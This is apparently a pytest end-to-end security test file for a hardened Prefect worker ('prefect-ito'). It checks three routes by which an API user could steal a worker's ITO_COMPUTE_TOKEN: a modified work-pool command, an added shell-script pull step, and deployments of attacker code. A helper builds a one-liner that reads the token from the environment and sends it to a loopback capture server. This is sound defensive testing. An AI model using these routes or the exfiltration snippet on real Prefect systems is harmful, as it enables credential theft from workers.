"""End to end: three routes by which a Prefect API user without an Itô token gets a worker's.

Each route changes only what the Prefect API lets anyone change, on the shipped hardened process
pool (whose job variables cannot set the command, environment or directory), then starts a
flow run. The attacker's code sends ``ITO_COMPUTE_TOKEN`` to a capture server on loopback:

1. the work pool's base job template: its ``command`` sends the token, then runs the engine;
2. a ``run_shell_script`` pull step added to the shipped ``nightly`` deployment;
3. a deployment of the attacker's own code on the pool, under its own entrypoint or under the
   shipped one (a pull step into a copy of the project whose ``prefect_ito/flows.py`` is theirs).

On Prefect's process worker each route delivers the token (the test can fail); on the prefect-ito
worker none delivers anything, the shipped deployment's runs still complete, and the
attacker's deployments are refused with a message that names their entrypoint or the pull step
the worker does not allow (it allows the checkout route's one, ``set_working_directory`` into
this checkout). SQLite only: the database plays no part in what a worker runs.
"""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from capture_server import CaptureServer
from e2e_stack import (
    CHECKOUT,
    CHECKOUT_STEP,
    ITO_WORKER,
    NIGHTLY,
    POOL,
    PROCESS_TEMPLATE,
    SHIPPED_YAML,
    Stack,
    completed,
    shipped_parameters,
    start_training,
    start_worker,
    wait_for_flow_run,
)
from prefect import get_client
from prefect.client.schemas.actions import DeploymentUpdate, WorkPoolUpdate
from prefect.client.schemas.objects import FlowRun
from prefect.deployments import run_deployment
from processes import stop_worker

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.parametrize("prefect_api", ["sqlite"], indirect=True),
]


@pytest.fixture
def capture() -> Iterator[CaptureServer]:
    with CaptureServer() as server:
        yield server


def _sends_the_token(capture: CaptureServer, route: str) -> list[str]:
    """Return a command that sends the worker's token to ``capture`` and always succeeds."""
    port = capture.url.rsplit(":", 1)[1]
    code = (
        "import os, http.client as h; c = h.HTTPConnection('127.0.0.1', "
        f"{port}, timeout=10); c.request('GET', '/{route}', headers={{'Authorization': "
        "'Bearer ' + os.environ.get('ITO_COMPUTE_TOKEN', 'none')}); c.getresponse()"
    )
    return [sys.executable, "-c", code]


def _delivered(stack: Stack, capture: CaptureServer) -> bool:
    """Tell whether the worker's token reached the capture server."""
    return f"Bearer {stack.token.get_secret_value()}" in capture.authorizations


def _stock(stack: Stack) -> bool:
    return stack.worker_type != ITO_WORKER


def _refused(flow_run: FlowRun) -> bool:
    return flow_run.state is not None and flow_run.state.name == "Refused"


async def test_a_work_pool_template_s_command(either_worker_stack: Stack, capture: CaptureServer):
    stack = either_worker_stack
    engine = shlex.join([sys.executable, "-m", "prefect.engine"])
    command = f"{shlex.join(_sends_the_token(capture, 'template'))}; exec {engine}"
    template = json.loads(PROCESS_TEMPLATE.read_text())
    template["job_configuration"]["command"] = shlex.join(["/bin/sh", "-c", command])
    async with get_client() as client:
        await client.update_work_pool(POOL, WorkPoolUpdate(base_job_template=template))
    try:
        # A worker reads its pool's template when it starts: a new one has this one for sure.
        _restart_worker(stack)
        flow_run = await start_training()
        await wait_for_flow_run(flow_run.id, completed)
    finally:
        shipped = json.loads(PROCESS_TEMPLATE.read_text())
        async with get_client() as client:
            await client.update_work_pool(POOL, WorkPoolUpdate(base_job_template=shipped))
        _restart_worker(stack, with_prefect_ito_cli=True)

    assert _delivered(stack, capture) is _stock(stack)
    if not _stock(stack):
        assert capture.received == []


async def test_a_shell_script_pull_step_on_a_shipped_deployment(
    either_worker_stack: Stack, capture: CaptureServer
):
    stack = either_worker_stack
    script = shlex.join(_sends_the_token(capture, "pull-step"))
    async with get_client() as client:
        deployment = await client.read_deployment_by_name(NIGHTLY)
        shipped_steps = deployment.pull_steps
        pull_steps = [
            *(shipped_steps or []),
            {"prefect.deployments.steps.run_shell_script": {"script": script}},
        ]
        await client.update_deployment(deployment.id, DeploymentUpdate(pull_steps=pull_steps))
    try:
        flow_run = await start_training()
        # The flow itself runs as ever on Prefect's worker; the prefect-ito worker refuses it.
        ended = await wait_for_flow_run(flow_run.id, completed if _stock(stack) else _refused)
    finally:
        async with get_client() as client:
            await client.update_deployment(
                deployment.id, DeploymentUpdate(pull_steps=shipped_steps)
            )

    assert _delivered(stack, capture) is _stock(stack)
    if not _stock(stack):
        assert capture.received == []
        assert ended.state is not None and ended.state.message == (
            "Refused by the prefect-ito worker: the deployment's pull step "
            "'prefect.deployments.steps.run_shell_script' is not one this worker runs "
            f"(allowed: {CHECKOUT_STEP}; a worker is given its own with --allow-pull-step)."
        )


async def test_a_deployment_of_the_attacker_s_own_code(
    either_worker_stack: Stack, capture: CaptureServer, tmp_path: Path
):
    stack = either_worker_stack
    # Their code, wherever they keep it (a repository a pull step clones, in practice).
    (tmp_path / "harvest.py").write_text(
        "import subprocess\n"
        "from prefect import flow\n\n\n"
        "@flow\n"
        "def harvest():\n"
        f"    subprocess.run({_sends_the_token(capture, 'deployment')!r}, check=True)\n"
    )
    async with get_client() as client:
        flow_id = await client.create_flow_from_name("harvest")
        deployment_id = await client.create_deployment(
            flow_id=flow_id,
            name="harvest",
            entrypoint="harvest.py:harvest",
            work_pool_name=POOL,
            pull_steps=[
                {"prefect.deployments.steps.set_working_directory": {"directory": str(tmp_path)}}
            ],
        )
    try:
        flow_run = await run_deployment("harvest/harvest", timeout=0)
        done = completed if _stock(stack) else _refused
        ended = await wait_for_flow_run(flow_run.id, done)
    finally:
        async with get_client() as client:
            await client.delete_deployment(deployment_id)

    if _stock(stack):
        assert _delivered(stack, capture)
        return
    refused = ended
    assert refused.state is not None and refused.state.is_failed()
    assert refused.state.message == (
        "Refused by the prefect-ito worker: the deployment's entrypoint 'harvest.py:harvest' "
        "is not a flow this worker runs (prefect_ito.flows.ito_training, "
        "prefect_ito.flows.ito_attach_training, prefect_ito.flows.ito_cancel_training)."
    )
    assert capture.received == []


async def test_a_deployment_that_names_a_shipped_entrypoint_over_the_attacker_s_code(
    either_worker_stack: Stack, capture: CaptureServer, tmp_path: Path
):
    """The entrypoint of a shipped deployment, and a pull step into a copy of the project where
    ``prefect_ito/flows.py`` is theirs: the prefect-ito worker refuses the directory."""
    stack = either_worker_stack
    (tmp_path / "prefect_ito").mkdir()
    (tmp_path / "prefect_ito" / "flows.py").write_text(
        "import subprocess\n"
        "from prefect import flow\n\n\n"
        '@flow(name="ito-training")\n'
        "def ito_training(credentials=None, authorization=None, training=None):\n"
        f"    subprocess.run({_sends_the_token(capture, 'shadow')!r}, check=True)\n"
    )
    async with get_client() as client:
        flow_id = await client.create_flow_from_name("ito-training")
        deployment_id = await client.create_deployment(
            flow_id=flow_id,
            name="shadow",
            entrypoint="prefect_ito/flows.py:ito_training",
            work_pool_name=POOL,
            parameters=shipped_parameters(SHIPPED_YAML, "nightly"),
            pull_steps=[
                {"prefect.deployments.steps.set_working_directory": {"directory": str(tmp_path)}}
            ],
        )
    try:
        flow_run = await run_deployment("ito-training/shadow", timeout=0)
        ended = await wait_for_flow_run(flow_run.id, completed if _stock(stack) else _refused)
    finally:
        async with get_client() as client:
            await client.delete_deployment(deployment_id)

    assert _delivered(stack, capture) is _stock(stack)
    if not _stock(stack):
        assert capture.received == []
        assert ended.state is not None and ended.state.message == (
            "Refused by the prefect-ito worker: the deployment's pull step "
            f"'prefect.deployments.steps.set_working_directory' has directory '{tmp_path}', "
            f"which this worker does not allow ({CHECKOUT})."
        )


def _restart_worker(stack: Stack, *, with_prefect_ito_cli: bool = False) -> None:
    """Stop the stack's worker by PID and start another of its type, as on its machine.

    With ``with_prefect_ito_cli``, a prefect-ito worker is started by ``prefect-ito worker``
    instead of ``prefect worker start --type prefect-ito``: the later tests run on that one.
    """
    stop_worker(stack.worker)
    assert stack.watcher_env is not None and stack.worker_log is not None
    if not (with_prefect_ito_cli and stack.worker_type == ITO_WORKER):
        stack.worker = start_worker(
            stack.watcher_env, stack.worker_log, cwd=CHECKOUT, worker_type=stack.worker_type
        )
        return
    command = [sys.executable, "-m", "prefect_ito.cli", "worker", "--pool", POOL, "--name", "e2e"]
    with stack.worker_log.open("ab") as out:
        stack.worker = subprocess.Popen(
            command, cwd=CHECKOUT, env=stack.watcher_env, stdout=out, stderr=subprocess.STDOUT
        )
